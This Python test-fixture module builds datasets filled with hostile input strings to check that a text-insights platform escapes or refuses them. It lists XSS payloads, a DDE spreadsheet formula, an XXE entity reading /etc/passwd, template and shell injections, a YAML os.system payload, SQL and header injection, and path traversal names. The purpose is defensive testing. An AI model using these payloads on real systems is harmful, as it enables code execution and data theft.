"""What programs take for something else: a list, and datasets in which it stands everywhere.

Whatever of it may stand in a dataset or be entered in a room is shown letter for letter, on every
page and in every file. What may not is refused in words (`REFUSED`) or tidied away in a room.
A text that runs says so in `window.pwned`; an element made from a text bears the class `pwned`.
"""

from __future__ import annotations

from itertools import cycle

from insights.model import (
    Correction,
    Dataset,
    Figure,
    LatestLocator,
    Lens,
    Message,
    Part,
    Run,
    Scene,
    Source,
    Tension,
    Theme,
    Withdrawn,
)
from tests.worlds import ABOUT, SOURCES, finding, world

ELSEWHERE = "elsewhere.example"
# A spreadsheet works these out; the wide and small signs are taken for the plain ones by some.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://example.org/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    "⁺1",
)
# A browser makes elements of these, or runs them, where they are not escaped.
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=window.pwned=1>",
    '<b class="pwned">bold</b> <i class=pwned>slanted</i>',
    "</title></textarea></style></template></script><script>window.pwned=2</script>",
    "<svg/onload=window.pwned=3><a xlink:href=javascript:window.pwned=4>x</a></svg>",
    f"<iframe src=https://{ELSEWHERE}/></iframe><object data=//{ELSEWHERE}></object>",
    f"<base href=https://{ELSEWHERE}/><link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    f"<form action=https://{ELSEWHERE}/><input autofocus onfocus=window.pwned=5></form>",
    "<style>*{display:none}</style>",
    "<!-- comment -->",
    "--> ]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt; &#60;b&#62; &amp;amp; &copy; & co",
    "\\u003cscript\\u003e \\x3cb\\x3e %3Cscript%3E",
)
# Out of an attribute, a script, a style sheet.
BREAKS = (
    '"onmouseover="window.pwned=6" class="pwned',
    "' onmouseover='window.pwned=7' class='pwned",
    "` + window.pwned=8 + ` ${window.pwned=9}",
    '"}];window.pwned=10;//',
    "</script><!--<script>",
    '"}}</style><script>window.pwned=11</script>',
    "expression(window.pwned=12); background:url(javascript:window.pwned=13)",
)
# What a link may not be, and what looks like one.
LINKS = (
    "[text](javascript:window.pwned=14) ![image](x) [ref]: y",
    f"[x](data:text/html,<script>parent.pwned=15</script>) ![x](https://{ELSEWHERE}/x.png)",
    "<javascript:window.pwned=16> <https://example.org/x>",
    "See https://example.org/a_b and www.example.org.",
    f"//{ELSEWHERE}/x \\\\{ELSEWHERE}\\share file:///etc/passwd",
)
# Templates: of Jinja, of Python, of shells, of Typst, of TeX.
TEMPLATES = (
    "{brace} }{ {{ \\ \\\\ \\textbf{x}",
    "{{7*7}} {% raw %} {# x #} {{ self.__init__.__globals__ }}",
    "{0.__class__} %s %(x)s %n ${7*7} <%= 7*7 %> #{7*7}",
    "$(touch x) `touch x` ; touch x | cat && cat",
    '#read("/etc/passwd") #import "@preview/x:1.0.0": * #set page(width: 1pt)',
    '#panic[x] @label <label> $ x^2 $ // /* */ #eval("1")',
    "\\input{/etc/passwd} \\write18{ls} \\end{document} \\def\\x{}",
    "% no comment",
)
# Markdown, as notes in slides, pages of the platform and files would take it.
MARKDOWN = (
    "a|b | c",
    "`code` and ``more``",
    "1. first",
    "2) second",
    "# heading #",
    "- item",
    "+ item",
    "* item",
    "> quote",
    "=== ",
    "---",
    "| a | b |",
    "**bold** _em_ ~~gone~~",
    "- [ ] [^1] [x][y] ***",
    "back\\",
)
# What the platform makes of Markdown besides: colours, icons, formulas, names of emoji.
DIRECTIVES = (
    ":red[red] :blue-background[x] :orange-badge[x] :rainbow[x] :small[x]",
    ":material/delete: :streamlit: :smile: :shortcode: term",
    "$1 $x$ 50% of R&D #1 a_b ~ ^ <tag> &amp; &copy; & co",
    "$$\\href{javascript:window.pwned=17}{x}$$ \\(x\\) \\[x\\]",
    "<-- --> -> <- >= --",
)
# The ends of a value in a file: CSV, YAML, JSON, BibTeX, calendar entries, heads of answers.
VALUES = (
    'She said "no", twice; and left.',
    "'=1",
    'a,"b",""",c;d\'',
    "@misc{x, title={y}}",
    "}, title = {x}, @string{a = 1} @comment{",
    "!!python/object/apply:os.system [ls]",
    "&a [*a, *a] <<: *a",
    "key: value # comment",
    "? x : y - - %YAML 1.1 | >",
    "{a: [1, 2]}",
    "__proto__",
    "constructor.prototype.pwned",
    "END:VEVENT BEGIN:VALARM;TZID=x:y \\n\\, SUMMARY:x",
    "x%0d%0aSet-Cookie: a=1",
    "filename=x; filename*=UTF-8''y",
    "'; DROP TABLE events; --",
    ") Tj ET endobj %PDF-1.7",
    "_x0041_ is no letter",
    "None",
    "NaN",
    "TRUE",
    "2020-01-01",
    "1e5",
    "00:10:38",
)
# What would be another place as the name of a file.
NAMES = ("../../etc/passwd", "..\\..\\x", "CON", "C:\\x:y", 'a/b*c?d"e<f>g|h', ".hidden", "-rf")
# Letters: joined, from right to left, wide, stacked, and words without a place to break.
LETTERS = (
    "🎉 👩‍🚀 👍🏽",
    "שלום עולם",
    "مرحبا بالعالم",
    "學校は",
    "Z" + "\u0337\u0321\u034a\u0346" * 8 + "alg",
    "ﷺ ﷽ 𒐫",
    "x" * 240,
)
KINDS = {
    "formulas": FORMULAS,
    "markup": MARKUP,
    "breaks": BREAKS,
    "links": LINKS,
    "templates": TEMPLATES,
    "Markdown": MARKDOWN,
    "directives": DIRECTIVES,
    "values": VALUES,
    "names": NAMES,
    "letters": LETTERS,
}
TEXTS = tuple(text for kind in KINDS.values() for text in kind)
# No dataset may hold these, and a room is rid of what is hidden in them.
REFUSED = {
    "a tab before a formula": "\t=1+1",
    "a return before a formula": "\r=1+1",
    "a line break": "x\r\nSet-Cookie: a=1",
    "an end of text": "x\x00y",
    "a bell": "x\x07y",
    "an escape": "x\x1b[31my",
    "a break of lines in Latin 1": "x\x85y",
    "a break of lines elsewhere": "x\u2028y",
    "a turn of direction": "x \u202eexe.fdp",
    "an isolated direction": "x \u2066y\u2069",
    "nothing that can be seen": "\u200b\u2060",
    "a mark of bytes": "\ufeffx",
    "half of a pair": "x \ud83d y",
    "no letter": "x\uffffy",
    "tags": "x\U000e0041y",
    "a letter of one typeface": "x\ue000y",
}


def hostile() -> Dataset:
    """A dataset with each of the texts wherever a text can stand."""
    findings = [
        finding(
            f"f-{at}",
            statement=text.strip(),
            note=text.strip(),
            actors=(text.strip()[:60].strip(), "An Office"),
            terms=("plain", text.strip()[:60].strip()),
        )
        for at, text in enumerate(TEXTS)
    ]
    about = ABOUT.model_copy(update={"title": "=1+1 | *A* {world} & <more> #"})
    sources = (SOURCES[0].model_copy(update={"title": "@A `long` talk}", "publisher": "+1"}),)
    return world(*findings, about=about, sources=(*sources, SOURCES[1]))


def everywhere() -> Dataset:
    """A dataset that can be read from files, with the texts in every field that takes any text.

    Labels of themes and short names of sources take no signs: menus of the platform show them.
    """
    one_after_another = cycle(TEXTS)

    def some(most: int = 600) -> str:
        return next(text.strip() for text in one_after_another if len(text) <= most)

    findings = [
        finding(
            f"f-{at}",
            # A statement ends as a sentence does, and no two are alike.
            statement=f"{text.strip()[:220]} no {at}.",
            category=("keep", "leave", "start", "context")[at % 4],
            themes=("trust", ("digital", "money")[at % 2]),
            note=text.strip(),
            actors=(some(60), some(60)),
            terms=(some(60),),
            figures=(Figure(value=at + 1, unit=some(60), of=some()),) if at % 3 == 0 else (),
            evidence="counted" if at % 3 == 0 else "reported",
            highlight=at + 1 if at < 12 else None,
            checked_by=some(60),
            **({"basis": "inferred"} if at % 4 != 3 else {}),
            **({"source": "paper", "locator": {"section": some()}} if at % 5 == 0 else {}),
        )
        for at, text in enumerate(TEXTS)
    ]
    sources = (
        Source(
            id="talk",
            title=some(),
            short="R&D + (talk)",
            kind="video",
            publisher=some(60),
            video="abcdefghijk",
            url=f"https://{ELSEWHERE}/?a='onclick='window.pwned=18'&b=%22%3E%3Cscript%3E",
            via=(some(60),),
            rights=some(),
            asks=("keep", "leave", "start"),
            coverage="complete",
            latest_locator=LatestLocator(at="01:00:00", why=some()),
        ),
        SOURCES[1].model_copy(
            update={"title": some(), "publisher": some(60), "rights": some(), "via": (some(60),)}
        ),
    )
    themes = (
        Theme(id="trust", label="R&lt D & co (x)", definition=some()),
        Theme(id="digital", label="Digital", definition=some()),
        Theme(id="money", label="Public money", definition=some()),
    )
    lenses = [
        Lens(
            id=f"lens-{at}",
            title=some(80),
            text=some(240),
            source="talk",
            locator="00:00:20",
            number_from="source",
            ordered=bool(at % 2),
            note=some(),
            parts=[
                Part(
                    id="one", label=some(60), text=some(240), locator="00:00:30", findings=["f-1"]
                ),
                Part(id="two", label=some(60), text=some(240), locator="00:00:40", bare=some()),
            ],
        )
        for at in range(3)
    ]
    shown = {
        "words": {"prompt": some(240)},
        "figure": {"of": "f-3", "hide": "number", "guess": some(160)},
        "finding": {"of": "f-1"},
        "view": {"query": "theme=trust", "hide": "split", "guess": some(160)},
        "lens": {"of": "lens-0"},
        "tension": {"of": "tension"},
        "notes": {"prompt": some(240)},
        "beside": {},
        "commitments": {},
    }
    run = Run(
        id="run",
        title=some(80),
        audience=some(120),
        text=some(240),
        scenes=[
            Scene(id=show, title=some(80), show=show, minutes=3, notes=some(), **more)
            for show, more in shown.items()
        ],
    )
    return world(
        *findings,
        about=ABOUT.model_copy(
            update={"title": some(), "message": Message(text=some(200), findings=("f-0", "f-1"))}
        ),
        themes=themes,
        sources=sources,
        lenses=lenses,
        tensions=[
            Tension(
                id="tension",
                between=("f-0", "f-1"),
                question=some(240),
                basis="inferred",
                note=some(),
            )
        ],
        corrections=[
            Correction(
                id="correction",
                source="talk",
                locator="00:00:10",
                as_written=some(200),
                occurs=1,
                likely=some(200),
                sure="likely",
                why=some(),
                status="open",
                affects=["f-1"],
            )
        ],
        withdrawn=[Withdrawn(id="gone", on="2026-01-15", why=some(), see=["f-1"])],
        runs=[run],
    )
